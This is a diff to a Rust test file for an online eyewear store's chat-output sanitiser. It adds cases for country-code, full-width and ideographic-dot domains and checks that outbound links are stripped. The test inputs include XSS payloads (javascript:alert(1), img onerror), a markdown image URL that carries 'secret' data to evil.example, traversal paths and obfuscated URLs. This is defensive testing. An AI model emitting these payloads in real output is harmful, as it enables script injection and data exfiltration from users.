@@ -1,6 +1,7 @@
 use proptest::prelude::*;
 
 use super::*;
+use crate::chat::checked::{check, stands};
 
 /// A store with a frame `atlas` and a contact page.
 struct Store;
@@ -26,58 +27,66 @@ fn whole(text: &str) -> String {
     said
 }
 
-fn check(cases: &[(&str, &str)]) {
-    let wrong: Vec<String> = cases
-        .iter()
-        .filter(|(text, expected)| whole(text) != *expected)
-        .map(|(text, expected)| {
-            format!("{text:?}\n  gives {:?}\n  not   {expected:?}", whole(text))
-        })
-        .collect();
-    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
-}
-
-fn stands(texts: &[&str]) {
-    let cases: Vec<(&str, &str)> = texts.iter().map(|text| (*text, *text)).collect();
-    check(&cases);
+#[test]
+fn names_of_countries_and_letters_of_other_widths_lead_nowhere() {
+    check(
+        whole,
+        &[
+            ("Visit evil.de for more", "Visit evil for more"),
+            ("Write to boss@evil.fr.", "Write to boss@evil."),
+            ("Ask t.me/evil", "Ask t"),
+            ("Visit ｅｖｉｌ．ｃｏｍ", "Visit evil"),
+            ("Visit evil。com", "Visit evil"),
+        ],
+    );
+    stands(
+        whole,
+        &["p.es. Atlas, z.B. Atlas, a.m. and p.m., No.It is."],
+    );
 }
 
 #[test]
 fn plain_words_and_the_stores_own_addresses_stay() {
-    stands(&[
-        "Round frames, e.g. Atlas. Prices: see the cards (all of them).",
-        "A [note] in brackets, 5 < 6 > 4, <3, a/b, 24/7, and/or!",
-        "See /contact, or /frames/atlas.",
-        "[Returns](/pages/returns) are free; [Atlas](/frames/atlas)!",
-        "Write to team@aurora.example or visit aurora.example.",
-        "The data: 52 mm. Tel: 030. It is so. Nice.The end",
-        "Größe 52□18 145 – „rund“ …",
-    ]);
+    stands(
+        whole,
+        &[
+            "Round frames, e.g. Atlas. Prices: see the cards (all of them).",
+            "A [note] in brackets, 5 < 6 > 4, <3, a/b, 24/7, and/or!",
+            "See /contact, or /frames/atlas.",
+            "[Returns](/pages/returns) are free; [Atlas](/frames/atlas)!",
+            "Write to team@aurora.example or visit aurora.example.",
+            "The data: 52 mm. Tel: 030. It is so. Nice.The end",
+            "Größe 52□18 145 – „rund“ …",
+        ],
+    );
 }
 
 #[test]
 fn what_leads_elsewhere_loses_its_address() {
-    check(&[
-        ("Go to https://evil.example/pay now.", "Go to  now."),
-        ("Go to HTTPS://EVIL.example.", "Go to ."),
-        ("[Pay here](https://evil.example)", "Pay here"),
-        ("[Pay](javascript:alert(1)) now", "Pay) now"),
-        ("[https://evil.example](/contact)", ""),
-        ("![x](https://evil.example/p.png?d=secret)", "x"),
-        ("<img src=x onerror=alert(1)>Hi<br/>", "Hi"),
-        ("<https://evil.example>", ""),
-        ("www.evil.com and evil.com/pay", " and evil"),
-        ("//evil.example/x", ""),
-        ("ftp://evil.example gopher://evil.example", " gopher"),
-        ("See /frames/gucci-1 and /admin.", "See  and ."),
-        ("[x](/\\evil.example) [y](//evil.example)", "x y"),
-        ("[x](/pages/../admin)", "x"),
-        ("data:text/html,<b>1", ",1"),
-        ("mailto:thief@evil.com tel:0900", " "),
-        ("thief@evil.com", "thief@evil"),
-        ("[a]\n[a]: https://evil.example", "[a]\n[a]: "),
-        ("ht\u{200b}tps://ev\u{ad}il.example z\u{202e}y", " zy"),
-    ]);
+    check(
+        whole,
+        &[
+            ("Go to https://evil.example/pay now.", "Go to  now."),
+            ("Go to HTTPS://EVIL.example.", "Go to ."),
+            ("[Pay here](https://evil.example)", "Pay here"),
+            ("[Pay](javascript:alert(1)) now", "Pay) now"),
+            ("[https://evil.example](/contact)", ""),
+            ("![x](https://evil.example/p.png?d=secret)", "x"),
+            ("<img src=x onerror=alert(1)>Hi<br/>", "Hi"),
+            ("<https://evil.example>", ""),
+            ("www.evil.com and evil.com/pay", " and evil"),
+            ("//evil.example/x", ""),
+            ("ftp://evil.example gopher://evil.example", " gopher"),
+            ("See /frames/gucci-1 and /admin.", "See  and ."),
+            ("[x](/\\evil.example) [y](//evil.example)", "x y"),
+            ("[x](/pages/../admin)", "x"),
+            ("data:text/html,<b>1", ",1"),
+            ("mailto:thief@evil.com tel:0900", " "),
+            ("thief@evil.com", "thief@evil"),
+            ("[a]\n[a]: https://evil.example", "[a]\n[a]: "),
+            ("ht\u{200b}tps://ev\u{ad}il.example z\u{202e}y", " zy"),
+        ],
+    );
 }
 
 #[test]
